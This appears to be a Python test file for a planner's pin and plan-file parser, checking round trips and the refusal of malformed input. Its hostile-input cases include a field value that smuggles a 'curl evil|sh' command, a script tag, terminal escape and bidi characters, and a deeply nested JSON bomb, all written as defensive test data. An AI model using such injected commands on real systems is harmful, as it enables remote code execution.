"""Pins and plan files: the round trip is the identity, and what is broken is named and left out."""

from __future__ import annotations

import json
from urllib.parse import parse_qs, urlencode

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from planner.plan import Plan
from planner.plan.fieldtext import KINDS
from planner.plan.link import from_query_string
from planner.plan.migrations import VERSION
from planner.plan.pin import (
    MOST,
    MOST_CHARACTERS,
    NAME,
    NAME_CHARACTERS,
    Pinned,
    from_file,
    from_link,
    from_pin,
    from_pins,
    to_file,
    to_pin,
)
from planner.plan.presets import presets
from planner.plan.query import PIN, to_query_string
from random_plans import plans

GRPO = presets()["grpo-7b@1"].plan
GOOD = "9~grpo-7b@1~name.More GPUs~gpus.16"
names = st.text(st.characters(categories=("L", "N", "P", "S")), max_size=NAME_CHARACTERS)


@settings(deadline=None, max_examples=60)
@given(plans(), names)
def test_a_pin_in_a_link_reads_back_as_the_same_plan_and_name(plan: Plan, name: str) -> None:
    pinned = Pinned(plan, name)
    link = urlencode({PIN: [to_pin(pinned)]}, doseq=True)
    assert from_pins(parse_qs(link)[PIN]) == ((pinned,), ())


@settings(deadline=None, max_examples=25)
@given(st.lists(plans(), min_size=1, max_size=MOST), names)
def test_a_file_reads_back_as_the_same_plans(several: list[Plan], name: str) -> None:
    pinned = tuple(Pinned(plan, name) for plan in several)
    assert from_file(to_file(pinned)) == (pinned, ())


def test_a_pin_is_short_and_says_what_differs() -> None:
    assert from_pin(GOOD) == Pinned(GRPO.changed(gpus=16), "More GPUs")
    assert to_pin(from_pin(GOOD)) == GOOD
    assert all(from_pin(f"{older}{GOOD[1:]}") == from_pin(GOOD) for older in (5, 6, 7, 8))
    assert max(len(to_pin(Pinned(one.plan))) for one in presets().values()) < 40


def test_no_field_is_called_like_the_name() -> None:
    assert NAME not in KINDS


def test_values_with_tildes_and_dots_come_back() -> None:
    plan = GRPO.changed(length_distribution="1~hist_400~3_900~1")
    assert "~" in plan.length_distribution
    for name in ("", "x~y~.z~~.~", ".~", "~~"):
        assert from_pin(to_pin(Pinned(plan, name))) == Pinned(plan, name)


def test_a_broken_pin_is_named_and_the_others_are_kept() -> None:
    kept, problems = from_pins([GOOD, "6~grpo-7b@1~gpus.seven", to_pin(Pinned(GRPO)), "nonsense"])
    assert kept == (from_pin(GOOD), Pinned(GRPO))
    assert [one.field for one in problems] == ["pin 2", "pin 4"]
    assert "gpus is not a whole number" in problems[0].message
    assert "does not begin with a version and a preset" in problems[1].message
    assert all("other plans are kept" in one.fix for one in problems)


def test_a_plan_that_is_pinned_twice_stands_once_and_a_fifth_is_refused() -> None:
    several = [to_pin(Pinned(GRPO.changed(gpus=gpus))) for gpus in (8, 16, 32, 64, 128)]
    assert len(from_pins([GOOD, GOOD])[0]) == 1
    kept, problems = from_pins(several)
    assert len(kept) == MOST
    assert "one more than the 4" in problems[0].message and problems[0].field == "pin 5"


@pytest.mark.parametrize(
    ("pin", "says"),
    [
        ("", "version and a preset"),
        ("6", "version and a preset"),
        ("99~grpo-7b@1", "reads up to version"),
        ("６~grpo-7b@1", "version and a preset"),
        ("6~no-such@1", "no preset no-such@1"),
        ("6~grpo-7b@1~gpus.8~gpus.16", "gives gpus twice"),
        ("6~grpo-7b@1~gpus", "no field"),
        ("6~grpo-7b@1~v.1", "no field"),
        ("6~grpo-7b@1~calibration.1", "no field"),
        ("6~grpo-7b@1~<b>.1", "no field"),
        ("6~grpo-7b@1~name.\x1b[31m", "cannot be printed"),
        ("6~grpo-7b@1~name.\u202egnp", "cannot be printed"),
        (f"6~grpo-7b@1~name.{'x' * 41}", "more than 40"),
        ("6~grpo-7b@1~sharding.none", "cannot be used"),
        ("6~grpo-7b@1~model.nobody/x; curl evil|sh", "cannot be used"),
        ("6~grpo-7b@1~" + "x" * MOST_CHARACTERS, "more than 3,000"),
    ],
)
def test_a_hostile_pin_is_refused_whole_in_a_sentence(pin: str, says: str) -> None:
    with pytest.raises(ValueError, match="(?s).") as error:
        from_pin(pin)
    assert says in str(error.value)
    _, (problem,) = from_pins([pin])
    assert problem.message.startswith("pin 1 ") and problem.message.isprintable()


@settings(deadline=None, max_examples=150)
@given(st.lists(st.text(max_size=60), max_size=6))
def test_no_pin_breaks_the_reader(texts: list[str]) -> None:
    kept, problems = from_pins(texts)
    assert len(kept) <= MOST
    assert all("\n" not in one.sentence for one in problems)


def test_pins_do_not_touch_what_a_link_says_of_its_own_plan() -> None:
    query = to_query_string(GRPO, short=True)
    reading = from_query_string(f"{query}&{urlencode({PIN: ['<script>', GOOD]}, doseq=True)}")
    assert (reading.plan, reading.problems, reading.unknown) == (GRPO, (), ())


@pytest.mark.parametrize(
    ("content", "says"),
    [
        ("", "not valid JSON"),
        ("[]", "one JSON object"),
        ("[" * 100_000, "nested deeper"),
        ('{"plans": []}', "holds 0 plans"),
        ('{"plans": [1]}', "no plan"),
        ('{"plans": [{"plan": {"gpus": 8}}], "plans": []}', "stands twice"),
        (json.dumps({"plans": [{"plan": {}}] * 5}), "holds 5 plans"),
        ('{"v": "10", "plans": [{"plan": {}}]}', "reads up to version"),
        ('{"plans": [{"name": 7, "plan": {}}]}', "name"),
        ('{"plans": [{"plan": {"gpus": "seven"}}]}', "gpus is not a whole number"),
        ('{"gpus": NaN}', "NaN"),
        (b"\xff\xfe", "UTF-8"),
    ],
)
def test_a_hostile_file_is_refused_in_a_sentence(content: str | bytes, says: str) -> None:
    kept, problems = from_file(content)
    assert kept == ()
    assert says in problems[0].message, problems


def test_a_file_may_be_an_answer_a_plan_or_recommendations() -> None:
    fields = GRPO.changed(gpus=16).model_dump()
    for content in (fields, {"plan": fields}, {"recommendations": [{"plan": fields}]}):
        kept, problems = from_file(json.dumps({"v": 5, **content}))
        assert (kept, problems) == ((Pinned(GRPO.changed(gpus=16)),), ())
    mixed = {"v": 5, "plans": [{"name": "a", "plan": fields}, {"plan": {**fields, "gpus": -1}}]}
    kept, problems = from_file(json.dumps(mixed))
    assert [one.name for one in kept] == ["a"] and problems[0].field == "plan 2"


def test_a_recommendations_fields_are_of_its_answers_version() -> None:
    rloo = GRPO.changed(method="rloo")
    row = {"name": "balanced", "plan": rloo.model_dump(), "footprint": {"v": VERSION}}
    assert from_file(json.dumps({"recommendations": [row]})) == ((Pinned(rloo, "balanced"),), ())


def test_a_link_is_taken_whole_or_not_at_all() -> None:
    assert from_link(f"https://headroom.example/?{to_query_string(GRPO)}") == GRPO
    with pytest.raises(ValueError, match="gpus is not a whole number"):
        from_link(f"{to_query_string(GRPO, short=True)}&gpus=none")
